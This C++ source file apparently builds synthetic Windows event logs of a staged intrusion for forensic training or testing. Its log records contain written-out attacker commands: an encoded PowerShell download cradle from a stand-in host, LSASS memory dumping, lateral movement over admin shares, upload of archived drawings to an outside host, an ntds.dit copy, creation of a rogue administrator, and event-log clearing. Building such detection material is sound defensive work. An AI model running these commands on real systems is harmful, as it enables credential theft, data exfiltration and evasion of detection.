// The planted intrusion, as what the machines' logs would say of it. Nothing here does anything: it
// is text in records. The course of events:
//
//   9 June   10:42  y.fujii opens a document from mail; it starts a script host, that PowerShell
//            10:51  run key and scheduled task; 11:05 a look around; 13:31 memory of LSASS dumped
//            14:12  with adm.noda's credentials to the file server: admin share, remote service
//            22:15  drawings packed in parts and uploaded with a renamed copying tool
//   10 June  01:20  a remote-control tool on a second workstation; 02:05 copy of the directory's
//            database on the controller, a new administrator; 02:41 logs cleared
#include <fmt/format.h>

#include "support/scenario.h"

namespace noroshi::evidence {
namespace {

constexpr std::string_view kShell = "C:\\Windows\\System32\\cmd.exe";
constexpr std::string_view kPowerShell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr std::string_view kSystem32 = "C:\\Windows\\System32\\";

const Account& system_account() {
  static const Account account{parse_sid("S-1-5-18"), "SYSTEM", "NT AUTHORITY", 0x3e7};
  return account;
}

std::string base64_of_utf16(std::string_view text) {
  constexpr std::string_view kDigits =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::vector<std::byte> bytes;
  append_utf16(text, bytes);
  std::string out;
  for (std::size_t at = 0; at < bytes.size(); at += 3) {
    std::uint32_t group = 0;
    for (std::size_t index = 0; index < 3; ++index) {
      group = (group << 8) |
              (at + index < bytes.size() ? static_cast<std::uint32_t>(bytes[at + index]) : 0);
    }
    for (std::size_t digit = 0; digit < 4; ++digit) {
      out.push_back(at + digit <= bytes.size() ? kDigits[(group >> (18 - 6 * digit)) & 63] : '=');
    }
  }
  return out;
}

Process tool(Machine& machine, Time time, const Account& who, std::string_view name,
             std::string_view arguments, const Process& parent) {
  return machine.start(time, who, std::string(kSystem32) + std::string(name),
                       fmt::format("{} {}", name, arguments), parent);
}

// What an intruder has started through `service`: a command interpreter for each command.
Process command(Machine& machine, Time time, const Process& service, std::string_view image,
                std::string_view line) {
  const Process shell =
      machine.start(time, system_account(), kShell, fmt::format("cmd.exe /c {}", line), service);
  return machine.start({time.ticks + 412'345}, system_account(), image, line, shell);
}

void foothold(Machine& machine, const Account& victim, const Day& day) {
  Time time = japan_time(day, 10, 42, 11);
  const auto later = [&](std::int64_t seconds) {
    time.ticks += seconds * Time::kTicksPerSecond + 1'234'567;
    return time;
  };
  const std::string document =
      "C:\\Users\\y.fujii\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
      "Content.Outlook\\Q7K2M9XD\\Request for quotation 2026-0609.docm";
  const Process mail = machine.standing(
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", victim);
  sysmon_file_create(machine.add(Log::kSysmon), machine.at(time), mail, document);
  const std::string word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
  const Process office = machine.start(
      later(9), victim, word, fmt::format("\"{}\" /n \"{}\" /o \"\"", word, document), mail);
  const std::string script = "C:\\Users\\y.fujii\\AppData\\Local\\Temp\\quotation.vbs";
  sysmon_file_create(machine.add(Log::kSysmon), machine.at(later(14)), office, script);
  const Process host = machine.start(later(1), victim, std::string(kSystem32) + "wscript.exe",
                                     fmt::format("wscript.exe //B \"{}\"", script), office);
  const std::string text =
      "$c = New-Object Net.WebClient; IEX $c.DownloadString('https://cdn-docs.example/n.txt')";
  const std::string command =
      fmt::format("powershell.exe -NoP -W Hidden -Enc {}", base64_of_utf16(text));
  const Process shell = machine.start(later(3), victim, kPowerShell, command, host);
  powershell_script(machine.add(Log::kPowerShell), machine.at(later(1)), text, "",
                    guid_from_text("foothold"));
  powershell_module(
      machine.add(Log::kPowerShell), machine.at(time), victim, command, "New-Object",
      "CommandInvocation(New-Object): \"New-Object\"\r\nParameterBinding(New-Object): "
      "name=\"TypeName\"; value=\"Net.WebClient\"");
  sysmon_dns(machine.add(Log::kSysmon), machine.at(later(1)), shell, "cdn-docs.example",
             "::ffff:198.51.100.23;");
  sysmon_network(machine.add(Log::kSysmon), machine.at(later(1)), shell,
                 {machine.ip(), machine.name(), 51873, "198.51.100.23", "-", 443});

  time = japan_time(day, 10, 51);
  const std::string payload = "C:\\Users\\Public\\Libraries\\kanna_update.exe";
  sysmon_file_create(machine.add(Log::kSysmon), machine.at(time), shell, payload);
  const Process registry = tool(
      machine, later(4), victim, "reg.exe",
      fmt::format("add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v KannaUpdate /t "
                  "REG_SZ /d {} /f",
                  payload),
      shell);
  sysmon_registry_value(machine.add(Log::kSysmon), machine.at(time), registry,
                        "HKU\\S-1-5-21-2083415590-1148073922-3310456671-1103\\Software\\Microsoft\\"
                        "Windows\\CurrentVersion\\Run\\KannaUpdate",
                        payload);
  tool(machine, later(20), victim, "schtasks.exe",
       fmt::format("/create /tn \\KannaUpdateCheck /tr {} /sc minute /mo 30 /f", payload), shell);
  security_task(machine.add(Log::kSecurity), machine.at(later(1)), victim, "\\KannaUpdateCheck",
                payload, "");
  task_registered(machine.add(Log::kTasks), machine.at(time), "\\KannaUpdateCheck",
                  victim.qualified());
  const Process implant = machine.start(later(30), victim, payload, payload, shell);

  time = japan_time(day, 11, 5);
  tool(machine, time, victim, "whoami.exe", "/all", implant);
  tool(machine, later(7), victim, "net.exe", "group \"Domain Admins\" /domain", implant);
  tool(machine, later(11), victim, "nltest.exe", "/dclist:hagane.example", implant);

  time = japan_time(day, 13, 31);
  const Process memory = machine.standing("C:\\Windows\\System32\\lsass.exe",
                                          "C:\\Windows\\system32\\lsass.exe", system_account());
  const Process dump = tool(machine, time, victim, "rundll32.exe",
                            "C:\\Windows\\System32\\comsvcs.dll, MiniDump 728 "
                            "C:\\Users\\Public\\Libraries\\l.dmp full",
                            implant);
  sysmon_process_access(machine.add(Log::kSysmon), machine.at(later(1)), dump, memory, 0x1fffff,
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\"
                        "KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbgcore.dll+12a4f|"
                        "C:\\Windows\\System32\\comsvcs.dll+2fa1c");
  sysmon_file_create(machine.add(Log::kSysmon), machine.at(later(1)), dump,
                     "C:\\Users\\Public\\Libraries\\l.dmp");
  defender_detected(machine.add(Log::kDefender), machine.at(later(4)), "HackTool:Win32/DumpLsass.H",
                    "file:_C:\\Users\\Public\\Libraries\\l.dmp", victim.qualified(),
                    "C:\\Windows\\System32\\rundll32.exe");
}

// From the first workstation to `target` through its admin share and a service; returns the
// service's process, which runs commands there.
Process move_on(Machine& from, Machine& target, const Account& victim, const Account& stolen,
                std::string_view service, Time time) {
  const auto later = [&](std::int64_t seconds) {
    time.ticks += seconds * Time::kTicksPerSecond + 2'345'678;
    return time;
  };
  const std::string host = target.short_name();
  const Process implant = from.standing("C:\\Users\\Public\\Libraries\\kanna_update.exe",
                                        "C:\\Users\\Public\\Libraries\\kanna_update.exe", victim);
  const Process net =
      tool(from, time, victim, "net.exe",
           fmt::format("use \\\\{}\\ADMIN$ /user:HAGANE\\adm.noda ********", host), implant);
  security_explicit_credentials(from.add(Log::kSecurity), from.at(later(1)), victim, stolen, host,
                                net);
  const std::string file = fmt::format("{}.exe", service);
  security_logon(target.add(Log::kSecurity), target.at(later(1)), stolen,
                 {3, "NtLmSsp ", "NTLM", "WS-ENG03", from.ip(), 51990, true});
  security_special_logon(target.add(Log::kSecurity), target.at(time), stolen);
  security_share(target.add(Log::kSecurity), target.at(time), stolen, from.ip(), "\\\\*\\ADMIN$",
                 "\\??\\C:\\Windows");
  security_share_file(target.add(Log::kSecurity), target.at(later(1)), stolen, from.ip(),
                      "\\\\*\\ADMIN$", "\\??\\C:\\Windows", file, 0x2);
  tool(from, later(6), victim, "sc.exe",
       fmt::format("\\\\{} create {} binPath= C:\\Windows\\{} start= demand", host, service, file),
       implant);
  const std::string path = fmt::format("%systemroot%\\{}", file);
  security_service(target.add(Log::kSecurity), target.at(later(1)), stolen, service, path);
  system_service_installed(target.add(Log::kSystem), target.at(time), service, path, "LocalSystem");
  const Process services = target.standing("C:\\Windows\\System32\\services.exe",
                                           "C:\\Windows\\system32\\services.exe", system_account());
  const Process started =
      target.start(later(1), system_account(), fmt::format("C:\\Windows\\{}", file),
                   fmt::format("C:\\Windows\\{}", file), services);
  command(target, later(2), started, std::string(kSystem32) + "whoami.exe", "whoami");
  return started;
}

void take_drawings(Machine& server, const Process& service, const Day& day) {
  Time time = japan_time(day, 22, 15, 40);
  const auto later = [&](std::int64_t seconds) {
    time.ticks += seconds * Time::kTicksPerSecond;
    return time;
  };
  const Process packer = command(
      server, time, service, "C:\\ProgramData\\rar.exe",
      "C:\\ProgramData\\rar.exe a -r -v200m -hpT6v2 C:\\ProgramData\\d.rar D:\\Drawings\\*.kdw "
      "D:\\Drawings\\*.dwg");
  for (int part = 1; part <= 6; ++part) {
    sysmon_file_create(server.add(Log::kSysmon), server.at(later(75)), packer,
                       fmt::format("C:\\ProgramData\\d.part{}.rar", part));
  }
  const Process upload =
      command(server, later(240), service, "C:\\ProgramData\\svchosts.exe",
              "C:\\ProgramData\\svchosts.exe copy C:\\ProgramData\\ box:in --include d.part*.rar "
              "--transfers 4 --no-check-certificate --config C:\\ProgramData\\s.conf");
  sysmon_dns(server.add(Log::kSysmon), server.at(later(1)), upload, "box.storage-hill.example",
             "::ffff:198.51.100.77;");
  for (std::uint16_t part = 0; part < 4; ++part) {
    sysmon_network(server.add(Log::kSysmon), server.at(later(2)), upload,
                   {server.ip(), server.name(), static_cast<std::uint16_t>(52010 + part),
                    "198.51.100.77", "-", 443});
  }
}

void second_desk(Machine& machine, const Process& service, const Day& day) {
  Time time = japan_time(day, 1, 20);
  const std::string path = "C:\\ProgramData\\AnyDesk\\AnyDesk.exe";
  const Process fetch =
      command(machine, time, service, std::string(kSystem32) + "curl.exe",
              "curl.exe -s -o C:\\ProgramData\\a.exe https://cdn-docs.example/a.exe");
  time.ticks += 5 * Time::kTicksPerSecond;
  sysmon_file_create(machine.add(Log::kSysmon), machine.at(time), fetch, "C:\\ProgramData\\a.exe");
  command(machine, time, service, "C:\\ProgramData\\a.exe",
          "C:\\ProgramData\\a.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent");
  time.ticks += 6 * Time::kTicksPerSecond;
  system_service_installed(machine.add(Log::kSystem), machine.at(time), "AnyDesk Service",
                           "\"" + path + "\" --service", "LocalSystem");
  const Process services =
      machine.standing("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
                       system_account());
  machine.start(time, system_account(), path, "\"" + path + "\" --service", services);
}

void take_directory(Network& network, const Process& service, const Day& day) {
  Machine& machine = network.controller;
  Time time = japan_time(day, 2, 5);
  const Process dump =
      command(machine, time, service, std::string(kSystem32) + "ntdsutil.exe",
              "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\n\" q q");
  time.ticks += 40 * Time::kTicksPerSecond;
  sysmon_file_create(machine.add(Log::kSysmon), machine.at(time), dump,
                     "C:\\ProgramData\\n\\Active Directory\\ntds.dit");
  const Account made{parse_sid("S-1-5-21-2083415590-1148073922-3310456671-1733"), "svc.print2",
                     "HAGANE", 0x9d1122};
  time.ticks += 60 * Time::kTicksPerSecond;
  command(machine, time, service, std::string(kSystem32) + "net.exe",
          "net.exe user svc.print2 ******** /add /domain");
  security_user_created(machine.add(Log::kSecurity), machine.at(time), system_account(), made);
  time.ticks += 4 * Time::kTicksPerSecond;
  security_group_member(machine.add(Log::kSecurity), machine.at(time), system_account(), made,
                        "Administrators");
}

// At the desk that the remote-control tool gives, in a console of the stolen account's.
void cover_tracks(Machine& machine, const Account& who, const Day& day) {
  const Process desk =
      machine.standing("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", who);
  const Process shell =
      machine.start(japan_time(day, 2, 40, 31), who, kShell, fmt::format("\"{}\"", kShell), desk);
  const Time time = japan_time(day, 2, 41, 7);
  tool(machine, time, who, "wevtutil.exe", "cl Security", shell);
  machine.clear(Log::kSecurity, {time.ticks + 1});
  security_log_cleared(machine.add(Log::kSecurity), machine.at({time.ticks + 2}), who);
  const Time next{time.ticks + 6 * Time::kTicksPerSecond};
  tool(machine, next, who, "wevtutil.exe", "cl Microsoft-Windows-PowerShell/Operational", shell);
  machine.clear(Log::kPowerShell, {next.ticks + 1});
  system_log_cleared(machine.add(Log::kSystem), machine.at({next.ticks + 2}), who,
                     "Microsoft-Windows-PowerShell/Operational");
}

}  // namespace

void add_intrusion(Network& network, const Day& first, const Day& second) {
  Machine& entry = network.workstations[2];
  const Account& victim = network.engineers[2];
  Account stolen = network.administrator;
  stolen.logon_id = 0x8e1207;
  foothold(entry, victim, first);
  const Process on_files =
      move_on(entry, network.files, victim, stolen, "updsvc", japan_time(first, 14, 12, 30));
  take_drawings(network.files, on_files, first);
  Machine& second_machine = network.workstations[4];
  const Process on_second =
      move_on(entry, second_machine, victim, stolen, "prnsvc", japan_time(second, 1, 12));
  second_desk(second_machine, on_second, second);
  const Process on_controller =
      move_on(entry, network.controller, victim, stolen, "dnssvc2", japan_time(second, 1, 58));
  take_directory(network, on_controller, second);
  cover_tracks(second_machine, stolen, second);
}

}  // namespace noroshi::evidence
